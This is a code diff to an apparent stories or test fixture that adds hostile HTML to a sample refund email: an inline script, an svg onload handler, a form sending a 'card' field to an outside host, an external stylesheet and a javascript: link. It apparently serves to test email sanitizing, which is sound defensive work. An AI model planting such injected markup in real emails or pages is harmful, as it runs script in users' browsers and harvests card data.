@@ -91,7 +91,7 @@ export const stories = [
         1500,
         {
           subject: "Refund for a returned helmet",
-          html: '<div style="color:#333"><p>Hello,</p><p>I returned the helmet on the <b>9th</b> and the <a href="https://track.example/8812">tracking</a> says you have it. When can I expect the refund?</p><table><tr><td>Order</td><td>47733</td></tr><tr><td>Item</td><td>Helmet “Breeze”, M</td></tr></table><p>Kind regards,<br>Priya</p><img src="https://pixel.example/open.gif" width="1" height="1"></div>',
+          html: '<div style="color:#333"><p>Hello,</p><p>I returned the helmet on the <b>9th</b> and the <a href="https://track.example/8812">tracking</a> says you have it. When can I expect the refund?</p><table><tr><td>Order</td><td>47733</td></tr><tr><td>Item</td><td>Helmet “Breeze”, M</td></tr></table><p>Kind regards,<br>Priya</p><script>document.title="owned"</script><svg onload="document.title=1"></svg><form action="https://pixel.example/post"><input name="card"></form><link rel="stylesheet" href="https://pixel.example/a.css"><a href="javascript:alert(1)">unsubscribe</a><img src="https://pixel.example/open.gif" width="1" height="1"></div>',
         },
       ),
       us(
